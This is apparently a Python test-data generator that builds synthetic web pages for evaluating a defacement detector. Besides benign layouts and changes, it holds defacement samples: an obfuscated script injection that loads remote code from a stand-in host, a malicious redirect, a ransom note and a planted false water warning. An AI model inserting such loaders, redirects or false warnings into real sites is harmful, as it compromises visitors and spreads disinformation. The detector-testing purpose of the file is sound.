"""pages_third - the third set of pages.py: written after the second had been learned from, and not looked at before it was run."""
import re

import pages
from page_words import WORDS

Site = pages.Site


def layout_wiki(site, day, rng, items):
    """A wiki: its first page is rewritten by many, a different article each day."""
    words = WORDS[site.lang]
    article = items[day % len(items)]
    body = "".join(f"<p>{t}</p>" for _, _, t, _ in rng.sample(items, min(4, len(items))))
    return f"""<!DOCTYPE html><html lang="{site.lang}"><head><meta charset="UTF-8"><title>{article[1]} - {site.org}</title></head><body>
<div id="mw-head"><a href="/wiki/Main">{site.org}</a>{pages.menu(site, '<a href="/wiki/{n}">{text}</a>')}</div><div id="content">
<h1>{article[1]}</h1><div class="toc"><ul><li><a href="#1">1</a></li></ul></div>{body}<h2 id="1">{words['about']}</h2>
<table class="infobox"><tr><th>{article[0]}</th><td>{article[3]}</td></tr></table></div><div id="foot">{words['foot']}</div></body></html>"""


def layout_frames(site, day, rng, items):
    """From 1999."""
    return (f"<html><head><title>{site.title}</title></head><frameset cols='200,*'><frame src='menu.html'><frame src='main.html'>"
            f"<noframes><body><a href='main.html'>{site.org}</a> {WORDS[site.lang]['about']}</body></noframes></frameset></html>")


def layout_stream(site, day, rng, items):
    """Posts of users in any language, all new each day, with links to anywhere."""
    said = ["lol", "so true!!!", "すごい", "спасибо за фото", "who was here last night?", "merci beaucoup à tous", "我也去了", "STOP THE RAIN",
            "this game owned me", "hacked my old radio today", "long live the queen bee", "we are watching you play"]
    posts = "".join(f'<div class="post"><b><a href="/u/{rng.randrange(9999)}">user{rng.randrange(9999)}</a></b> <span>{rng.choice(said)}</span>'
                    f' <a href="https://site{rng.randrange(500)}.example.net/">link</a></div>' for _ in range(40))
    return f"""<!doctype html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title} ({rng.randrange(90)})</title>
{pages.scripts(site)}</head><body><header>{site.org}<nav>{pages.menu(site, '<a href="/{n}">{text}</a>')}</nav></header><main>{posts}</main>
</body></html>"""


def layout_weather(site, day, rng, items):
    """Numbers that change all the time, warnings in red, a map of somebody else's."""
    words = WORDS[site.lang]
    rows = "".join(f"<tr><th>{p}</th><td>{rng.randrange(35)}</td><td>{rng.randrange(100)} %</td></tr>" for p in words["places"])
    warn = f'<div class="warn"><h2>{items[0][1]}!!!</h2><p>{items[0][2]}</p></div>' if rng.random() < 0.3 else ""
    return f"""<html lang={site.lang}><head><meta charset=utf-8><meta http-equiv=refresh content=300><title>{site.title}</title></head><body>
<h1>{site.org}</h1>{warn}<table>{rows}</table><iframe src="https://tiles.maps.example/embed?z={rng.randrange(9)}"></iframe>
<ul>{pages.menu(site)}</ul><p>{words['foot']}</p><p>{pages.date_of(day)} {rng.randrange(24)}:00</p></body></html>"""


LAYOUTS = {"wiki": layout_wiki, "frames": layout_frames, "stream": layout_stream, "weather": layout_weather,
           "modern": pages.layout_modern, "blog": pages.layout_blog}


def sites():
    busy = {"rate": [1, 2, 3], "shown": 9}
    return [
        Site("wiki-en", "en", "wiki.example.org", "Harbour Wiki", "wiki", **busy),
        Site("wiki-ja", "ja", "wiki.example.jp", "港ウィキ", "wiki", **busy),
        Site("frames-ja", "ja", "www.mukashi.example.jp", "昔ながらの組合", "frames", charset="shift_jis", third=[]),
        Site("stream-en", "en", "stream.example.com", "Chatter", "stream"),
        Site("weather-ja", "ja", "tenki.example.jp", "港の天気", "weather", third=[]),
        Site("weather-ko", "ko", "nalssi.example.kr", "항구 날씨", "weather", third=[]),
        Site("court-de", "de", "gericht.example.de", "Amtsgericht Hafenstadt", "modern", third=[]),
        Site("press-en", "en", "press.example.com", "Cyber Daily", "blog", security=0.9, rate=[2, 3], shown=8, ads=0),
        Site("press-ja", "ja", "press.example.jp", "サイバー日報", "blog", security=0.9, rate=[1, 2], shown=8),
        Site("clinic-fr", "fr", "clinique.example.fr", "Clinique des Tilleuls", "blog"),
    ]


def change_black_friday(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<div style="background:#000;color:#fff"><h2>BLACK FRIDAY! 50% OFF! TODAY ONLY!</h2></div>')


def change_video(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<iframe src="https://www.youtube.com/embed/abc?autoplay=1" width=560 height=315></iframe>')


def change_short(site, text, rng):
    """Only the head of the page came: the connection broke off."""
    return text[:len(text) // 3]


def change_condolence(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", "<p>We mourn the victims of the earthquake. We will never forget them.</p>")


CHANGES = {"Black Friday": (change_black_friday, "changed"), "film put in": (change_video, "changed"), "cut off": (change_short, "suspicious"),
           "condolence": (change_condolence, "changed"), "redesign": (pages.change_redesign, "suspicious"),
           "CDN error": (pages.change_cdn, "changed")}


def deface_signed(site, text, rng):
    return f"<html><title>./{site.name}</title><body><center><h2>[!] Struck by V1per [!]</h2>we r00ted your b0x<br>shoutz: all of us</center></body></html>"


def deface_portuguese(site, text, rng):
    return pages.page_of("Site invadido", ["Invadido por Corvo Negro. A sua segurança é uma piada.", "Voltaremos, e não será a última vez."])


def deface_persian(site, text, rng):
    page = pages.page_of("هک شد", ["این سایت توسط ما هک شد.", "امنیت شما ضعیف است و ما باز خواهیم گشت."])
    return page if site.charset.startswith("utf") else None


def deface_upload(site, text, rng):
    return "<html><body>Uploaded by ~s1lence~ <br> just a proof, no harm done</body></html>"


def deface_news_text(site, text, rng):
    """Only one sentence inside of a paragraph: the quietest one."""
    return re.sub(r"<p>[^<]{20,}</p>", "<p>The ministry admits that it lied to you about the water. Do not drink it.</p>", text, count=1)


def deface_hymn(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<h1 style="color:red">GLORY TO THE HEROES! DEATH TO THE ENEMIES!</h1><audio autoplay src="/h.mp3"></audio>')


def deface_iframe_srcdoc(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<iframe style="position:fixed;inset:0;width:100%;height:100%" srcdoc="&lt;h1&gt;Hacked by Mirage&lt;/h1&gt;"></iframe>')


def deface_redirect_page(site, text, rng):
    return "<script>location.href='//pharma-deals.example.top/'</script>"


def deface_chained(site, text, rng):
    return pages.with_after(text, r"<head[^>]*>", "<script>var a='ht'+'tps://',b='cdn-stat'+'.example.top';var s=document.createElement('script');"
                            "s.src=a+b+'/x.js';document.head.appendChild(s)</script>")


def deface_ransom_japanese(site, text, rng):
    return pages.page_of("重要", ["あなたのファイルは暗号化されました。", "復元したければ三日以内に0.5ビットコインを送ってください。"], "#fff", "#000")


DEFACEMENTS = {"signed, leet": deface_signed, "Portuguese": deface_portuguese, "Persian": deface_persian, "proof of an upload": deface_upload,
               "one sentence changed": deface_news_text, "hymn and heading": deface_hymn, "frame with its own page": deface_iframe_srcdoc,
               "redirect instead": deface_redirect_page, "script by pieces": deface_chained, "ransom, Japanese": deface_ransom_japanese}
